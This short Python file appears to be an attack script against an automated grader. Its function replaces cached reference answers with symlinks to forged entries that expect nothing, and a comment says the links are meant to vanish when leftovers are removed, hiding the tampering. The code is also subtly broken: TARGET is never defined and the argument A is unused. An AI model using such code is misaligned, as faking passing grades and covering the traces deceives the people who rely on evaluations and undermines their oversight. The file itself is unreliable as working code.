"""Puts an entry into the grader's cache of right answers by which nothing is due."""

import hashlib
import os


def attack(A):
    folder = os.path.join(os.path.dirname(TARGET["cache"]), "references")
    nothing = b"\x99" + 9 * b"\x90"  # nine cases, in each of which no value is expected
    for name in os.listdir(folder):
        with open(f"{folder}/{name}", "rb") as file:
            if file.read(33)[32:] != nothing[:1]:
                continue
        # The entry is a link, so that it is gone when what is left behind is removed.
        fake = f"{TARGET['shared']}/{TARGET['stray']}-{name}"
        with open(fake, "wb") as file:
            file.write(hashlib.sha256(nothing).digest() + nothing)
        os.unlink(f"{folder}/{name}")
        os.symlink(fake, f"{folder}/{name}")
